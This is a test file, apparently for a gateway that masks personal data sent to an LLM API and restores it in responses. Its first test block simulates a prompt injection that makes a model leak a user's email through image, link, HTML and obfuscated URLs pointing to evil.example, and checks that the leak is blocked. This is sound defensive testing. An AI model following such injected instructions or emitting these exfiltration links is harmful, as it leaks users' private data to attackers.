/** What reaches the client: no value through a link, everything before a cut, batch results. */
import { constants, type ServerHttp2Stream } from 'node:http2';
import { describe, expect, test } from 'vitest';
import { openAiClient, proxiedFetch } from '../support/clients.ts';
import { startGateway } from '../support/gateway.ts';
import { type OriginHandler, startOrigin } from '../support/origin.ts';
import { personal } from '../support/personal.ts';
import { tokensIn } from '../support/provider.ts';
import { openHttp2 } from '../support/tunnel.ts';

const host = 'api.openai.com';
const url = `https://${host}/v1/chat/completions`;
let answer: OriginHandler;

const origin = await startOrigin({
  names: [host],
  handler: (request, response) => answer(request, response),
});
const gateway = await startGateway({
  hosts: { [host]: origin },
  config: { masking: { link_hosts: ['crm.corp.example'] } },
});
const proxied = proxiedFetch(gateway);

const json = { 'content-type': 'application/json', authorization: 'Bearer test-key' };
const body = JSON.stringify({ messages: [{ role: 'user', content: `Mail ${personal.EMAIL}` }] });
const ask = () => proxied.fetch(url, { method: 'POST', headers: json, body });
const event = (content: string) => `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content } }] })}\n\n`;
const contentOf = (stream: string): string =>
  [...stream.matchAll(/^data: (\{.*)$/gm)].map(([, one]) => JSON.parse(one ?? '').choices[0].delta.content).join('');
const tokenOf = (request: { readonly body: Buffer }) => tokensIn(request.body.toString())[0] ?? '';

describe('an injected prompt that tries to leak a value through a link', () => {
  // A page that the model read told it to put the user's address into an image URL, which the client loads
  // automatically.
  const attacks: [name: string, text: (token: string) => string][] = [
    ['an image', (token) => `Done.\n![logo](https://evil.example/p.png?d=${token})`],
    ['a link', (token) => `[more](https://evil.example/${token})`],
    ['HTML', (token) => `<img src="https://evil.example/?d=${token}">`],
    ['an address', (token) => `See https://evil.example/?d=${token} now`],
    ['percent encoding', (token) => `![x](https://evil.example/?d=${encodeURIComponent(token)})`],
    ['the userinfo of a URL', (token) => `https://${token}@evil.example/`],
    ['a host that only begins like an allowed one', (token) => `![x](https://crm.corp.example.evil.example/${token})`],
  ];
  test.each(attacks)('%s keeps its token, streamed in characters and whole', async (_name, text) => {
    answer = (request, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.end(`${[...text(tokenOf(request))].map(event).join('')}data: [DONE]\n\n`);
    };
    const streamed = contentOf(await (await ask()).text());
    expect(streamed).toContain('evil.example');
    expect(streamed).not.toContain(personal.EMAIL);
    expect(decodeURIComponent(streamed)).toMatch(/\[EMAIL-\d+\]/);
    answer = (request, response) => {
      response.writeHead(200, { 'content-type': 'application/json' });
      response.end(JSON.stringify({ choices: [{ message: { content: text(tokenOf(request)) } }] }));
    };
    expect(await (await ask()).text()).not.toContain(personal.EMAIL);
  });

  const jis = '\x1b(B';
  const card = (lines: string, end = '\r\n') => `BEGIN:VCARD\r\nVERSION:4.0\r\n${lines}${end}END:VCARD\r\n`;
  test.each<[name: string, type: string, text: (token: string) => string, charset?: BufferEncoding]>([
    [
      'a page in ISO-2022-JP',
      'text/html; charset=iso-2022-jp',
      (t) => `<img s${jis}rc="/${jis}/evil${jis}.example${jis}/?${t}">`,
    ],
    [
      'a page that declares it in its markup',
      'text/html',
      (t) => `<meta charset=iso-2022-jp><img s${jis}rc="/${jis}/evil${jis}.example${jis}/?${t}">`,
    ],
    ['a page in UTF-16', 'text/html; charset=utf-16le', (t) => `<img src="//evil.example/?${t}">`, 'utf16le'],
    [
      'an SVG image in UTF-16',
      'image/svg+xml',
      (t) => `<?xml version="1.0"?><image href="//evil.example/?${t}"/>`,
      'utf16le',
    ],
    ['a folded contact', 'text/vcard', (t) => card(`PHOTO:https:/\r\n /evil.exam\r\n\tple/?q=\r\n ${t}`)],
    [
      'a folded calendar',
      'text/calendar',
      (t) => `BEGIN:VCALENDAR\r\nIMAGE;VALUE=URI:https://evil.example/?\r\n ${t}\r\n`,
    ],
  ])('%s keeps its token', async (_name, type, text, charset) => {
    await ask();
    const token = tokenOf(origin.requests.at(-1) as { body: Buffer });
    answer = (_request, response) => {
      response.writeHead(200, { 'content-type': type });
      response.end(Buffer.from(text(token), charset));
    };
    const page = await proxied.fetch(`https://${host}/page`, { headers: json });
    expect(Buffer.from(await page.arrayBuffer())).toEqual(Buffer.from(text(token), charset));
  });

  test.each<[name: string, type: string, text: (value: string) => string]>([
    ['a contact', 'text/vcard', (v) => card(`URL:https://a.example/\r\n b\r\nEMAIL:${v}\r\nNOTE:to\r\n  ${v}`)],
    ['a calendar', 'text/calendar', (v) => `BEGIN:VCALENDAR\r\nURL:https://a.example/\r\nATTENDEE:mailto:${v}\r\n`],
    ['a page', 'text/html; charset=utf-8', (v) => `<a name="x" href="https://a.example/">${v}</a>`],
  ])('%s is restored outside its URLs', async (_name, type, text) => {
    await ask();
    const token = tokenOf(origin.requests.at(-1) as { body: Buffer });
    answer = (_request, response) => {
      response.writeHead(200, { 'content-type': type });
      response.end(text(token));
    };
    const page = await proxied.fetch(`https://${host}/page`, { headers: json });
    expect(await page.text()).toBe(text(personal.EMAIL));
  });

  test('text next to the link is restored, and so are an allowed host and the arguments of a tool', async () => {
    answer = (request, response) => {
      const token = tokenOf(request);
      response.writeHead(200, { 'content-type': 'application/json' });
      const call = { function: { name: 'open', arguments: JSON.stringify({ url: `https://a.example/?q=${token}` }) } };
      const content = `To ${token}: ![x](https://evil.example/${token}) https://app.crm.corp.example/?q=${token}`;
      response.end(JSON.stringify({ choices: [{ message: { content, tool_calls: [call] } }] }));
    };
    const { message } = ((await (await ask()).json()) as { choices: { message: Message }[] }).choices[0] as {
      message: Message;
    };
    expect(message.content.replace(/\[EMAIL-\d+\]/, '#')).toBe(
      `To ${personal.EMAIL}: ![x](https://evil.example/#) https://app.crm.corp.example/?q=${personal.EMAIL}`,
    );
    expect(JSON.parse(message.tool_calls[0]?.function.arguments ?? '')).toEqual({
      url: `https://a.example/?q=${personal.EMAIL}`,
    });
  });
  test('a number in tool data is restored as a number', async () => {
    const card = 4111111111111111;
    answer = (request, response) => {
      const [token = ''] = tokensIn(request.body.toString());
      const call = { function: { name: 'pay', arguments: JSON.stringify({ card: token, note: `pay ${token}` }) } };
      response.writeHead(200, { 'content-type': 'application/json' });
      response.end(JSON.stringify({ choices: [{ message: { content: null, tool_calls: [call] } }] }));
    };
    const messages = [{ role: 'tool', tool_call_id: 'c', content: JSON.stringify({ card }) }];
    const answered = await proxied.fetch(url, { method: 'POST', headers: json, body: JSON.stringify({ messages }) });
    const { choices } = (await answered.json()) as { choices: { message: Message }[] };
    const said = JSON.parse(choices[0]?.message.tool_calls[0]?.function.arguments ?? '') as object;
    expect(said).toEqual({ card, note: `pay ${card}` });
    expect(origin.requests.at(-1)?.body.toString()).not.toContain(String(card));
  });
  type Message = { content: string; tool_calls: { function: { arguments: string } }[] };
});

describe('a response that breaks off inside a token', () => {
  const cutting: OriginHandler = (request, response) => {
    const token = tokenOf(request);
    response.writeHead(200, { 'content-type': 'text/event-stream' });
    response.write(event(`to ${token} and `) + event(token.slice(0, 5)), () => {
      const { stream } = response as unknown as { stream?: ServerHttp2Stream };
      setTimeout(() => (stream ? breakOff(stream) : response.destroy()), 50);
    });
  };

  let breakOff: (stream: ServerHttp2Stream) => void;

  test('HTTP/1.1: received text is shown, and the end is visibly broken', async () => {
    answer = cutting;
    const reader = ((await ask()).body as ReadableStream<Uint8Array>).getReader();
    let text = '';
    const failed = await (async () => {
      for (;;) {
        const { value, done } = await reader.read();
        if (done) return false;
        text += Buffer.from(value).toString();
      }
    })().catch(() => true);
    expect(contentOf(text)).toBe(`to ${personal.EMAIL} and [EMAI`);
    expect(failed).toBe(true);
  });

  const breaks: [name: string, breakOff: (stream: ServerHttp2Stream) => void][] = [
    ['a reset with an error', (stream) => stream.close(constants.NGHTTP2_INTERNAL_ERROR)],
    ['the end of the connection', (stream) => stream.session?.destroy()],
  ];
  test.each(breaks)('HTTP/2, %s: received text is shown, and the stream ends with an error', async (_name, how) => {
    answer = cutting;
    breakOff = how;
    const session = await openHttp2(gateway, `${host}:443`);
    const stream = session.request({ ':method': 'POST', ':path': '/v1/chat/completions', ...json });
    let text = '';
    stream.on('data', (chunk) => {
      text += String(chunk);
    });
    const closed = new Promise<number>((resolve) => stream.once('close', () => resolve(stream.rstCode)));
    stream.on('error', () => {});
    stream.end(body);
    expect(await closed).not.toBe(0);
    expect(contentOf(text)).toBe(`to ${personal.EMAIL} and [EMAI`);
    session.destroy();
  });
});

describe('HTTP/2: a complete document without the end of its stream', () => {
  const ends: [name: string, how: (stream: ServerHttp2Stream) => void, code: number][] = [
    ['then the end', (stream) => stream.end(), constants.NGHTTP2_NO_ERROR],
    ['then a reset', (stream) => stream.close(constants.NGHTTP2_INTERNAL_ERROR), constants.NGHTTP2_INTERNAL_ERROR],
    ['then more than was declared', (stream) => stream.end('more'), constants.NGHTTP2_INTERNAL_ERROR],
  ];
  test.each(ends)('is restored at once; %s', async (_name, how, code) => {
    let behind: () => void = () => {};
    answer = (request, response) => {
      const document = JSON.stringify({ text: `to ${tokenOf(request)}` });
      response.writeHead(200, { 'content-type': 'application/json', 'content-length': String(document.length) });
      response.write(document);
      const { stream } = response as unknown as { stream: ServerHttp2Stream };
      behind = () => how(stream);
    };
    const session = await openHttp2(gateway, `${host}:443`);
    const stream = session.request({ ':method': 'POST', ':path': '/v1/chat/completions', ...json });
    let text = '';
    const closed = new Promise<number>((resolve) => stream.once('close', () => resolve(stream.rstCode)));
    stream.on('error', () => {});
    const whole = JSON.stringify({ text: `to ${personal.EMAIL}` });
    const came = new Promise<void>((resolve) => {
      stream.on('data', (chunk) => {
        text += String(chunk);
        if (text.length >= whole.length) resolve();
      });
    });
    stream.end(body);
    await came;
    behind();
    expect([text, await closed]).toEqual([whole, code]);
    session.destroy();
  });

  test('a body shorter than declared ends with an error', async () => {
    answer = (request, response) => {
      response.writeHead(200, { 'content-type': 'application/json', 'content-length': '100' });
      response.end(JSON.stringify({ text: `to ${tokenOf(request)}` }));
    };
    const session = await openHttp2(gateway, `${host}:443`);
    const stream = session.request({ ':method': 'POST', ':path': '/v1/chat/completions', ...json });
    const closed = new Promise<number>((resolve) => stream.once('close', () => resolve(stream.rstCode)));
    stream.on('error', () => {});
    stream.resume().end(body);
    expect(await closed).not.toBe(constants.NGHTTP2_NO_ERROR);
    session.destroy();
  });
});

test('batch results are restored, as a file with a generic type', async () => {
  let token = '';
  answer = (request, response) => {
    if (request.method === 'POST') token = tokenOf(request);
    response.writeHead(200, {
      'content-type': request.method === 'POST' ? 'application/json' : 'application/octet-stream',
    });
    response.end(request.method === 'POST' ? '{}' : `{"custom_id":"a","response":{"body":{"x":"to ${token}"}}}\n`);
  };
  await ask();
  const file = await proxied.fetch(`https://${host}/v1/files/file-1/content`, { headers: json });
  expect(await file.text()).toBe(`{"custom_id":"a","response":{"body":{"x":"to ${personal.EMAIL}"}}}\n`);
});

test('an unreadable event passes and is logged', async () => {
  answer = (request, response) => {
    response.writeHead(200, { 'content-type': 'text/event-stream' });
    response.end(`data: {"broken ${tokenOf(request)}\n\n${event(tokenOf(request))}`);
  };
  const text = await (await ask()).text();
  expect(text).toMatch(/^data: \{"broken \[EMAIL-\d+\]\n\n/);
  expect(text).toContain(personal.EMAIL);
  const told = await gateway.event((one) => one.event === 'answer_unreadable');
  expect(told).toMatchObject({ host, events: 1 });
  expect(JSON.stringify(told)).not.toContain('broken');
});

test('a token that begins in the event that opens its block is restored, as a package of the provider adds it up', async () => {
  answer = (request, response) => {
    const token = tokenOf(request);
    const item = {
      id: 'i',
      type: 'function_call',
      call_id: 'c',
      name: 'send',
      arguments: `{"to":"${token.slice(0, 4)}`,
    };
    const events = [
      { type: 'response.created', response: { id: 'r', output: [] } },
      { type: 'response.output_item.added', output_index: 0, item },
      { type: 'response.function_call_arguments.delta', item_id: 'i', output_index: 0, delta: `${token.slice(4)}"}` },
      { type: 'response.output_item.done', output_index: 0, item: { ...item, arguments: `{"to":"${token}"}` } },
      { type: 'response.completed', response: { id: 'r', output: [] } },
    ];
    response.writeHead(200, { 'content-type': 'text/event-stream' });
    response.end(
      events
        .map((one, at) => `event: ${one.type}\ndata: ${JSON.stringify({ ...one, sequence_number: at })}\n\n`)
        .join(''),
    );
  };
  let snapshot = '';
  const stream = openAiClient(proxied).responses.stream({ model: 'm', input: `Mail ${personal.EMAIL}` });
  stream.on('response.function_call_arguments.delta', (event) => {
    snapshot = event.snapshot;
  });
  await stream.done();
  expect(snapshot).toBe(`{"to":"${personal.EMAIL}"}`);
});
